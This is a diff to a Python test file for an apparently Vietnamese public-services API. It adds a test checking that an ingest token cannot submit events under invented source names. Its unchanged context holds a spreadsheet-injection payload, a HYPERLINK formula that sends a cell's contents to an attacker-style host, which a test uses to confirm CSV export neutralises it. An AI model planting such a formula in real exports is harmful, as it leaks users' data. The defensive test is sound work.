@@ -10,12 +10,16 @@ import csv
 import io
 from importlib import resources
 
+import orjson
 import redis
 from fastapi.testclient import TestClient
 
 from services.api.app import create_app as create_api
+from services.ingest.app import create_app as create_ingest
 from shared.config import Settings
+from shared.tokens import TokenSpec, digest
 from tests.conftest import redis_db
+from tests.factories import received
 
 FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Xem chi tiết")'
 
@@ -49,3 +53,26 @@ def test_public_csv_writes_a_formula_name_as_text(redis_server) -> None:
     (row,) = [r for r in rows if r[3] == code]
     assert row[4] == "'" + FORMULA  # shown as text, never run
     assert not any(cell.startswith(("=", "+", "@")) for r in rows for cell in r)
+
+
+def test_an_issued_token_without_sources_cannot_invent_sources(redis_server) -> None:
+    token = "tok-cong-dvc-tinh-0001"
+    spec = TokenSpec(name="cong-dvc", sha256=digest(token), scopes=["ingest"], agencies=["*"])
+    settings = Settings(
+        kafka_bootstrap="127.0.0.1:1",
+        tokens=[spec],
+        redis_url=redis_db(redis_server, 12),
+        ingest_produce_timeout_s=1,
+    )
+    headers = {"content-type": "application/json", **bearer(token)}
+    with TestClient(create_ingest(settings)) as ingest:
+        fake = [received(agency="so-y-te", dossier=f"f{i}", source=f"gia-{i}") for i in range(3)]
+        resp = ingest.post("/v1/events", content=orjson.dumps(fake), headers=headers)
+        assert resp.status_code == 403
+        assert {e["code"] for e in resp.json()["errors"]} == {"forbidden_source"}
+        # its own name, or no source (stamped with its name), passes authorisation (the
+        # broker is down here: 503)
+        own = [received(agency="so-y-te", source="cong-dvc"), received(agency="so-y-te")]
+        assert (
+            ingest.post("/v1/events", content=orjson.dumps(own), headers=headers).status_code == 503
+        )
